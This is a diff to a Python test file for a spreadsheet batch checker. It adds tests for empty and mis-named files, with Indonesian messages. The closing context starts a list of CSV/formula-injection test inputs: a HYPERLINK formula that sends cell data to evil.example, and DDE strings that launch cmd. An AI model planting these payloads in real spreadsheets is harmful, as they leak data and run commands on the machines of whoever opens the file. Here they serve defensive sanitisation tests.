@@ -378,6 +378,20 @@ def test_encrypted_ole_container(tmp_path, valid_xlsx):
     assert "kata sandi" in finding["message"]
 
 
+def test_an_empty_file_is_said_to_be_empty(tmp_path, valid_xlsx):
+    path = tmp_path / "kosong.xlsx"
+    path.write_bytes(b"")
+    finding = assert_unreadable(check_batch(path, copy_valid(valid_xlsx, tmp_path)))
+    assert "berkas kosong (0 bita)" in finding["message"]
+
+
+def test_a_text_file_named_xls_is_damaged_with_what_to_do(tmp_path, valid_xlsx):
+    path = tmp_path / "bukan.xls"
+    path.write_text("Laporan bulan Maret\n", encoding="utf-8")
+    finding = assert_unreadable(check_batch(path, copy_valid(valid_xlsx, tmp_path)))
+    assert "rusak atau bukan spreadsheet; buka di Excel, simpan ulang sebagai .xlsx" in finding["message"]
+
+
 # --- formula injection into the reports ------------------------------------------------------------
 
 INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
